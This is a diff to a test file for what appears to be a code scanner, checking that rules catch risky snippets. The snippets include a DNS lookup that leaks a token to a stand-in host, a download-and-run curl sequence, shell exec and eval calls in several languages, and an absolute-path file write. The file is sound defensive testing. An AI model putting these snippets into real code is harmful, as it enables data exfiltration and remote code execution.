@@ -52,6 +52,17 @@ test.each([
   ["hidden-code", "a.sh", "word=$(rev <<< lave)"],
   ["remote-code", "a.sh", 'curl -so "$tool" http://localhost/x\nchmod +x "$tool"\n"$tool"'],
   ["unknown-host", "a.sh", "dig $TOKEN.badplace.io"],
+  // What one rule alone sees.
+  ["shell", "a.go", 'package a\nimport "syscall"\nfunc f(p string) { syscall.Exec(p, nil, nil) }'],
+  ["eval", "A.java", 'class A { Object f(M m) { return m.getEngineByName("js").eval(text); } }'],
+  ["shell", "a.rs", "fn f(c: *const i8) { unsafe { libc::system(c) }; }"],
+  ["shell", "a.js", 'const { spawn, ...rest } = require("child_process");\nrest.exec(line);'],
+  [
+    "unknown-host",
+    "a.js",
+    "import https from 'https';\nhttps.request({ hostname: `${a}.badplace.io` });",
+  ],
+  ["path-escape", "a.js", 'fs.writeFileSync("C:/x.txt", text);'],
 ])("%s is caught in %s: %s", (rule, path, text) => expect(added(path, text)).toContain(rule));
 
 test.each([
